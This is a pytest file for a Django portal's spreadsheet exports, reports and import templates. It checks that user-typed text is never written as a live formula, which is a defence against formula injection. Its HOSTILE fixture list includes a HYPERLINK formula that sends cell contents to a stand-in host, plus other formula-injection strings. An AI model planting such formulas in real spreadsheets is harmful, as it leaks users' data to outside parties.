"""Every spreadsheet the portal writes holds what people typed as text, never as a formula.

A name someone typed that begins like a formula (`=HYPERLINK(…)`, `+1+1`, `-2+3`, `@SUM(A1)`, a tab
or a carriage return first) comes out of every list export, every report and every import
template exactly as typed, in a string cell; the only formulas in any file are the reports' own
totals. The exports are found from the URL configuration, the reports and import templates from
their registries, so a new one cannot be left out: it fails here until its hostile rows are planted.
"""

import ast
import datetime
import io
import re
import zipfile
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import time_machine
from django.conf import settings
from django.urls import reverse
from openpyxl import Workbook

from aid_projects.models import AidProject, Commune
from associations.models import Association, LaoProvince
from delegations.models import BudgetLine, Delegation
from delegations.reports import KIND as TRIP_REPORT
from friendship_portal.core import imports
from friendship_portal.core import reports as report_registry
from friendship_portal.core.excel import append_row, build_workbook, formula, looks_like_formula, write_cell
from friendship_portal.core.record_views import XLSX, RecordListView
from friendship_portal.core.reports import report_request
from tests import factories
from tests.aid_projects.factories import AidProjectFactory, DisbursementFactory, DonorFactory, ProgressReportFactory
from tests.delegations.factories import DelegationFactory
from tests.scholarships.factories import (
    AwardFactory,
    EnrollmentFactory,
    InstitutionFactory,
    PaymentFactory,
    StudentFactory,
    YearlyBudgetFactory,
)
from tests.urlmap import routes

HOSTILE = [
    '=HYPERLINK("http://example.org/?leak="&B3,"Bấm xem")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
YEAR = 2026
ROOT = Path(settings.BASE_DIR)


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    """Report files land in the test's own folder, never in var/media."""
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def clock():
    with time_machine.travel(datetime.datetime(2026, 6, 15, 9, tzinfo=datetime.UTC), tick=False):
        yield


# --- reading a file back ----------------------------------------------------------------------


def open_book(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content), data_only=False)


def cells_of(book):
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def formula_cells(book) -> list:
    return [cell for cell in cells_of(book) if cell.data_type == "f"]


def formulas_in_xml(content: bytes) -> int:
    """How many <f> elements the worksheets hold, read from the file itself rather than through openpyxl."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    return sum(
        len(re.findall(rb"<f[ >/]", archive.read(name)))
        for name in archive.namelist()
        if name.startswith("xl/worksheets/") and name.endswith(".xml")
    )


def assert_typed_text_is_text(book, values=HOSTILE):
    """Each of `values` is in the file, exactly, in string cells that keep their quote prefix; and
    every cell that could pass for a formula is text."""
    cells = cells_of(book)
    for value in values:
        found = [cell for cell in cells if cell.value == value]
        assert found, f"{value!r} is not in the file"
        for cell in found:
            assert (cell.data_type, cell.quotePrefix) == ("s", True), (cell.coordinate, value)
    for cell in cells:
        if isinstance(cell.value, str) and cell.data_type != "f":
            assert cell.data_type == "s", (cell.parent.title, cell.coordinate, cell.value)
            assert cell.quotePrefix == looks_like_formula(cell.value), (cell.parent.title, cell.coordinate)


def assert_no_formula(content: bytes):
    book = open_book(content)
    assert formula_cells(book) == []
    assert formulas_in_xml(content) == 0


# The formulas the reports mean: references to cells of the same workbook, SUM over a range, a difference.
REFERENCE = r"(?:'[^']+'!)?\$?[A-Z]{1,3}\$?\d+"
PORTAL_FORMULA = re.compile(rf"=(?:SUM\({REFERENCE}:{REFERENCE}\)|{REFERENCE}(?:-{REFERENCE})?)")


def assert_only_portal_formulas(book, content: bytes):
    found = formula_cells(book)
    assert found, "the report's totals are formulas"
    assert formulas_in_xml(content) == len(found)
    for cell in found:
        assert PORTAL_FORMULA.fullmatch(cell.value), (cell.parent.title, cell.coordinate, cell.value)
        for sheet in re.findall(r"'([^']+)'!", cell.value):
            assert sheet in book.sheetnames, cell.value


def total_rows(sheet, label_column: int = 1) -> list[int]:
    return [
        cell.row for (cell,) in sheet.iter_rows(min_col=label_column, max_col=label_column) if cell.value == "Tổng cộng"
    ]


# --- the writer itself ------------------------------------------------------------------------


def save(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


TRICKS = [" =1+1", "'=1+1", "\u00a0@SUM(A1)", "＝1+1", "#N/A", "#REF!"]


@pytest.mark.parametrize("value", HOSTILE + TRICKS)
def test_writer_keeps_text_that_looks_like_a_formula_as_that_text(value):
    workbook = Workbook()
    write_cell(workbook.active, 1, 1, value)
    append_row(workbook.active, [value, "Nguyễn Văn An"])
    content = save(workbook)

    sheet = open_book(content).active
    for cell in (sheet["A1"], sheet["A2"]):
        assert (cell.value, cell.data_type) == (value, "s")
    assert formulas_in_xml(content) == 0
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("value", HOSTILE + TRICKS[:4])
def test_text_that_could_pass_for_a_formula_gets_the_invisible_quote_prefix(value):
    workbook = Workbook()
    cell = write_cell(workbook.active, 1, 1, value)

    assert looks_like_formula(value)
    assert cell.quotePrefix
    assert open_book(save(workbook)).active["A1"].quotePrefix


def test_ordinary_text_gets_no_prefix_and_keeps_every_letter():
    workbook = Workbook()
    cell = write_cell(workbook.active, 1, 1, "Hội hữu nghị Việt Nam – Lào (2024-2029)")

    assert not cell.quotePrefix
    assert open_book(save(workbook)).active["A1"].value == "Hội hữu nghị Việt Nam – Lào (2024-2029)"


def test_numbers_dates_and_booleans_keep_their_kind():
    workbook = Workbook()
    cells = append_row(
        workbook.active,
        [Decimal("2500000"), Decimal("0.75"), -3, datetime.date(2026, 7, 18), None, True],
    )
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "d", "n", "b"]

    sheet = open_book(save(workbook)).active
    amount, share, negative, day, empty, flag = next(sheet.iter_rows(min_row=1, max_row=1))
    assert (amount.value, share.value, negative.value, flag.value, empty.value) == (2500000, 0.75, -3, True, None)
    assert day.is_date and day.number_format.lower() == "dd/mm/yyyy"


def test_characters_a_workbook_cannot_hold_are_dropped_rather_than_failing_the_export():
    workbook = Workbook()
    write_cell(workbook.active, 1, 1, "Nguyễn\x00 Văn\x07 An\x1f")

    assert open_book(save(workbook)).active["A1"].value == "Nguyễn Văn An"


def test_only_an_explicit_formula_becomes_a_formula():
    workbook = Workbook()
    sheet = workbook.active
    append_row(sheet, [1, 2])
    write_cell(sheet, 2, 1, formula("SUM(A1:B1)"))
    write_cell(sheet, 3, 1, "=SUM(A1:B1)")
    content = save(workbook)

    book = open_book(content)
    assert (book.active["A2"].data_type, book.active["A2"].value) == ("f", "=SUM(A1:B1)")
    assert (book.active["A3"].data_type, book.active["A3"].value) == ("s", "=SUM(A1:B1)")
    assert formulas_in_xml(content) == 1


def test_list_workbook_writes_hostile_rows_as_text():
    content = build_workbook(
        title="Hội viên", headers=["Họ và tên", "Đơn vị"], rows=[[value, value] for value in HOSTILE]
    )

    book = open_book(content)
    assert_typed_text_is_text(book)
    assert_no_formula(content)


def test_no_module_writes_a_cell_but_the_one_writer():
    """Cells are written only in friendship_portal/core/excel.py: no `.value =`, no
    `.cell(…, value=…)`, no `sheet["A1"] = …` anywhere else."""
    offenders = []
    for path in first_party_modules():
        if path == ROOT / "friendship_portal/core/excel.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            targets = node.targets if isinstance(node, ast.Assign) else []
            targets += [node.target] if isinstance(node, (ast.AugAssign, ast.AnnAssign)) else []
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} sets .value")
                if isinstance(target, ast.Subscript) and is_cell_address(target.slice):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} assigns a cell by address")
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "cell"
                and (len(node.args) > 2 or any(keyword.arg == "value" for keyword in node.keywords))
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} writes through .cell()")
    assert offenders == []


def is_cell_address(node) -> bool:
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return bool(re.fullmatch(r"[A-Z]{1,3}\d+", node.value))
    if isinstance(node, ast.JoinedStr) and node.values:  # sheet[f"A{row}"]
        first = node.values[0]
        return isinstance(first, ast.Constant) and bool(re.fullmatch(r"\$?[A-Z]{1,3}\$?", str(first.value)))
    return False


def first_party_modules() -> list[Path]:
    folders = ["friendship_portal", "associations", "delegations", "scholarships", "aid_projects"]
    return [path for folder in folders for path in (ROOT / folder).rglob("*.py") if "migrations" not in path.parts]


# Every module that makes a workbook, and the test here that reads its files back.
WORKBOOK_MAKERS = {
    "friendship_portal/core/excel.py": "test_list_export_writes_typed_text_as_text",
    "friendship_portal/core/imports.py": "test_import_template_writes_text_as_text",
    "friendship_portal/overview/summaries.py": "test_workbook_report_writes_typed_text_as_text",
    "aid_projects/reports.py": "test_workbook_report_writes_typed_text_as_text",
}


def test_every_module_that_makes_a_workbook_is_read_back_here():
    makers = set()
    for path in first_party_modules():
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = getattr(node.func, "id", getattr(node.func, "attr", "")) if isinstance(node, ast.Call) else ""
            if name in ("Workbook", "StyledBook"):
                makers.add(str(path.relative_to(ROOT)))
    assert makers == set(WORKBOOK_MAKERS), "a new workbook: read it back in this file and name it in WORKBOOK_MAKERS"


# --- every list export --------------------------------------------------------------------------


def list_exports() -> dict:
    """URL name → RecordPages of every list page (each offers ?export=xlsx), from the URL configuration."""
    found = {}
    for _route, name, pattern in routes():
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is not None and issubclass(view_class, RecordListView):
            found[name] = pattern.callback.view_initkwargs["pages"]
    return found


def shifted(values: list, by: int) -> list:
    return values[by:] + values[:by]


def plant_associations(cast):
    for association, name, short_name in zip(
        Association.objects.order_by("pk"), HOSTILE, shifted(HOSTILE, 1), strict=False
    ):
        association.name, association.short_name = name, short_name
        association.save(update_fields=["name", "short_name"])


def plant_outbound(cast):
    for title in HOSTILE:
        DelegationFactory(title=title)


def plant_inbound(cast):
    for title in HOSTILE:
        DelegationFactory(title=title, inbound=True)


def plant_work_plans(cast):
    for year, title in enumerate(HOSTILE, start=2020):
        factories.WorkPlanFactory(title=title, year=year)


# Each list's hostile rows: the values of HOSTILE in a column the export lists (a name, a title).
PLANTERS = {
    "associations:association_list": plant_associations,
    "associations:branch_list": lambda cast: [factories.BranchFactory(name=value) for value in HOSTILE],
    "associations:member_list": lambda cast: [factories.MemberFactory(full_name=value) for value in HOSTILE],
    "associations:leadership_list": lambda cast: [
        factories.LeadershipPositionFactory(person_name=value) for value in HOSTILE
    ],
    "associations:plan_list": plant_work_plans,
    "associations:activity_list": lambda cast: [factories.ActivityFactory(title=value) for value in HOSTILE],
    "associations:partner_list": lambda cast: [factories.PartnerFactory(name=value) for value in HOSTILE],
    "delegations:outbound_list": plant_outbound,
    "delegations:inbound_list": plant_inbound,
    "scholarships:student_list": lambda cast: [StudentFactory(full_name=value) for value in HOSTILE],
    "scholarships:institution_list": lambda cast: [InstitutionFactory(name=value) for value in HOSTILE],
    "scholarships:yearlybudget_list": lambda cast: [
        YearlyBudgetFactory(year=year, decision=value) for year, value in enumerate(HOSTILE, start=2020)
    ],
    "aid_projects:project_list": lambda cast: [
        AidProjectFactory(title=value, donors=[DonorFactory(name=value)]) for value in HOSTILE
    ],
}


def test_every_list_export_has_its_hostile_rows():
    assert set(list_exports()) == set(PLANTERS), "a new list export: plant its hostile rows in PLANTERS"


@pytest.mark.parametrize("url_name", sorted(list_exports()))
def test_list_export_writes_typed_text_as_text(cast, login, url_name):
    PLANTERS[url_name](cast)

    response = login(cast.staff).get(reverse(url_name), {"export": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    book = open_book(response.content)
    assert_typed_text_is_text(book)
    assert_no_formula(response.content)


# --- every report that writes a workbook ----------------------------------------------------------


@pytest.fixture
def hostile_world(cast):
    """Records of YEAR whose every name a report lists is hostile: associations, Lao provinces,
    host institutions, donors, communes, aid titles and codes."""
    plant_associations(cast)
    for province, name in zip(LaoProvince.objects.order_by("pk"), HOSTILE, strict=False):
        province.name_vi = name
        province.save(update_fields=["name_vi"])
    communes = list(Commune.objects.order_by("pk")[: len(HOSTILE)])
    for commune, name in zip(communes, HOSTILE, strict=True):
        commune.name = name
        commune.save(update_fields=["name"])

    YearlyBudgetFactory(year=YEAR, decision=HOSTILE[0])
    for index, (name, province) in enumerate(zip(HOSTILE, LaoProvince.objects.order_by("pk"), strict=False)):
        award = AwardFactory(
            enrollment=EnrollmentFactory(
                student=StudentFactory(full_name=name, lao_province=province),
                institution=InstitutionFactory(name=name, short_name=name),
            ),
            academic_year=YEAR - 1,
        )
        PaymentFactory(award=award, month=datetime.date(YEAR, 2, 1), paid_on=datetime.date(YEAR, 2, 10 + index))

    for index, (name, commune) in enumerate(zip(HOSTILE, communes, strict=True)):
        project = AidProjectFactory(
            code=f"VT-{YEAR}-{index:03d}",
            title=name,
            status=AidProject.Status.IMPLEMENTING,
            decision_number="125/QĐ-UBND",
            decision_date=datetime.date(YEAR - 1, 1, 15),
            actual_start=datetime.date(YEAR - 1, 3, 1),
            donors=[DonorFactory(name=name)],
            communes=[commune],
        )
        ProgressReportFactory(project=project)  # due 15/07/2025: overdue
        DisbursementFactory(
            project=project,
            date=datetime.date(YEAR, 3, 1),
            amount=Decimal(1_000_000),
            currency="VND",
            exchange_rate=Decimal(1),
        )

    for association in Association.objects.all():
        delegation = DelegationFactory(association=association, start_date=datetime.date(YEAR, 5, 11))
        BudgetLine.objects.create(delegation=delegation, item=HOSTILE[0], amount=Decimal(10_000_000))
    return cast


def build_report(django_capture_on_commit_callbacks, kind: str, params: dict, actor):
    with django_capture_on_commit_callbacks(execute=True):
        job = report_request(kind=kind, params=params, actor=actor)
    job.refresh_from_db()
    assert job.state == job.State.DONE, job.error
    with job.file.open("rb") as handle:
        return Path(job.file.name).name, handle.read()


def check_budget_summary(book, content):
    assert_only_portal_formulas(book, content)
    summary = book["Tổng hợp"]
    assert all(summary[f"C{row}"].data_type == "f" for row in range(6, 10)), (
        "the summary's lines and total are formulas"
    )
    for title in ("Học bổng", "Viện trợ", "Đoàn công tác"):
        sheet = book[title]
        totals = total_rows(sheet, label_column=2)  # column A is the STT column
        assert totals, title
        for row in totals:
            summed = [cell for cell in sheet[row] if cell.data_type == "f"]
            assert summed and all(cell.value.startswith("=SUM(") for cell in summed), (title, row)


def check_aid_summary(book, content):
    assert_only_portal_formulas(book, content)
    sheet = book["Dự án"]
    (row,) = total_rows(sheet, label_column=2)
    assert [sheet[f"{column}{row}"].value[:5] for column in "JKL"] == ["=SUM("] * 3  # after the STT column
    assert len(formula_cells(book)) == 3


# Every kind of report: its parameters, and for a workbook how its intended formulas are checked;
# None for a Word document (no cells to write).
REPORTS = {
    "portal.budget_summary": ({"year": YEAR}, check_budget_summary),
    "aid_projects.yearly_summary": ({"year": YEAR}, check_aid_summary),
    "portal.union_review": ({"year": YEAR, "period": "year"}, None),
    TRIP_REPORT: (None, None),
    # A long list export, run as a job: the members' list, hostile names and all.
    "portal.list_export": ({"list": "associations:member_list", "query": "", "rows": 10}, None),
}


def test_every_report_kind_is_checked_here():
    assert set(report_registry.REGISTRY) == set(REPORTS), "a new report: add it to REPORTS"


@pytest.mark.parametrize("kind", [kind for kind, (_params, check) in REPORTS.items() if check])
def test_workbook_report_writes_typed_text_as_text(clock, hostile_world, django_capture_on_commit_callbacks, kind):
    params, check = REPORTS[kind]

    name, content = build_report(django_capture_on_commit_callbacks, kind, params, hostile_world.staff)

    assert name.endswith(".xlsx")
    book = open_book(content)
    assert_typed_text_is_text(book)
    check(book, content)


def test_a_long_list_exported_by_a_job_writes_typed_text_as_text(cast, clock, django_capture_on_commit_callbacks):
    PLANTERS["associations:member_list"](cast)
    params = REPORTS["portal.list_export"][0]

    name, content = build_report(django_capture_on_commit_callbacks, "portal.list_export", params, cast.staff)

    assert name.endswith(".xlsx")
    book = open_book(content)
    assert_typed_text_is_text(book)
    assert formula_cells(book) == [] and formulas_in_xml(content) == 0


@pytest.mark.parametrize(
    "kind", [kind for kind, (_params, check) in REPORTS.items() if not check and kind != "portal.list_export"]
)
def test_the_other_reports_are_word_documents(cast, clock, django_capture_on_commit_callbacks, kind):
    params = REPORTS[kind][0] or {"delegation_id": DelegationFactory(status=Delegation.Status.RETURNED).pk}

    name, content = build_report(django_capture_on_commit_callbacks, kind, params, cast.staff)

    assert name.endswith(".docx")
    assert "word/document.xml" in zipfile.ZipFile(io.BytesIO(content)).namelist()


# --- every import template ----------------------------------------------------------------------------


def import_template_urls() -> list[str]:
    from aid_projects.views import IMPORTS as AID_IMPORTS

    urls = [reverse("scholarships:import_template")]
    urls += [reverse("aid_projects:import_template", kwargs={"kind": kind}) for kind in AID_IMPORTS]
    return urls


def test_every_import_template_url_is_checked_here():
    names = {name for _route, name, _pattern in routes() if name and "template" in name.split(":")[-1]}
    assert names == {"scholarships:import_template", "aid_projects:import_template"}
    assert len(import_template_urls()) == len(imports.REGISTRY)


@pytest.mark.parametrize("kind", sorted(imports.REGISTRY))
def test_import_template_writes_text_as_text(kind):
    spec = imports.REGISTRY[kind]
    hostile = replace(
        spec,
        columns=[replace(column, example=HOSTILE[index % len(HOSTILE)]) for index, column in enumerate(spec.columns)],
        notes=[*spec.notes, *HOSTILE],
    )

    content = imports.template_workbook(hostile)

    book = open_book(content)
    assert_typed_text_is_text(book)
    assert_no_formula(content)


def test_import_templates_served_hold_no_formula(cast, login):
    client = login(cast.staff)
    for url in import_template_urls():
        response = client.get(url)
        assert response.status_code == 200, url
        assert_no_formula(response.content)
        assert_typed_text_is_text(open_book(response.content), values=[])
